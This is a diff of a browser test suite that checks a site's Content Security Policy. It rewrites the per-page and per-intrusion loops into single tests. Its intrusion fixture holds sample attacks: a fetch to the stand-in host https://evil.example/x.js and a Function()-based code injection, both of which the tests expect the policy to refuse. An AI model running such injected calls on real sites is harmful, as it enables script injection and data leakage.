@@ -9,22 +9,23 @@ import { contentSecurityPolicy } from "../../prerender/content-security-policy.t
 import { loadSite, type Site } from "../../server/http/site-files.ts";
 import { openApp } from "../support/app.ts";
 import { fillForm, openForm, VISITOR } from "../support/contact.ts";
-import { PATHS_WITHOUT_PAGE } from "../support/screens.ts";
+import { SCREENS } from "../support/screens.ts";
 import { test } from "../support/site.ts";
 import { collectViolations } from "../support/violations.ts";
 
 const manifest = JSON.parse(readFileSync("dist/.build.json", "utf8")) as BuildManifest;
 
-const pages = manifest.files.flatMap(({ kind, url }) => (kind === "page" ? url : []));
+/** One path for each page that differs; that aliases are the same to the byte is shown without a browser. */
+const PAGES = [...SCREENS.map(({ paths }) => paths[0]), "/assets/carbon", "/about"];
 
-for (const path of [...pages, ...PATHS_WITHOUT_PAGE]) {
-  test(`${path} breaks nothing of its policy`, async ({ page }) => {
-    const violations = await collectViolations(page);
+test("no page breaks anything of its policy", async ({ page }) => {
+  const violations = await collectViolations(page);
+  for (const path of PAGES) {
     const response = await page.goto(path, { waitUntil: "networkidle" });
     expect(response?.headers()["content-security-policy"]).toContain("default-src 'none'");
-    expect(violations).toEqual([]);
-  });
-}
+    expect(violations, path).toEqual([]);
+  }
+});
 
 test.describe("the failure page", () => {
   test.use({ expectedTrouble: /500/ });
@@ -83,19 +84,20 @@ test.describe("what does not belong to a page", () => {
     ["a call to another site", "connect-src https://evil.example/x.js", () => void fetch(EVIL).catch(() => {})],
     ["code from text", "script-src eval", () => void setTimeout(() => Function("self.hasRun = true")())],
   ];
-  for (const [what, violation, intrude] of INTRUSIONS) {
-    test(`${what} is refused, and seen by these tests`, async ({ page }) => {
-      const violations = await collectViolations(page);
-      await page.goto("/contact");
+  test("is refused, and seen by these tests", async ({ page }) => {
+    const violations = await collectViolations(page);
+    await page.goto("/contact");
+    for (const [what, violation, intrude] of INTRUSIONS) {
       await page.evaluate(
-        `const EVIL = "https://evil.example/x.js";
-         const addElement = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
-         try { (${intrude})() } catch {}`,
+        `{ const EVIL = "https://evil.example/x.js";
+           const addElement = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
+           try { (${intrude})() } catch {} }`,
       );
-      await expect.poll(() => violations).toContain(violation);
-      expect(await page.evaluate("self.hasRun")).toBeUndefined();
-    });
-  }
+      await expect.poll(() => violations, { message: what }).toContain(violation);
+      expect(await page.evaluate("self.hasRun"), what).toBeUndefined();
+      violations.length = 0;
+    }
+  });
 });
 
 // Known to the functions above where they run: in the page.
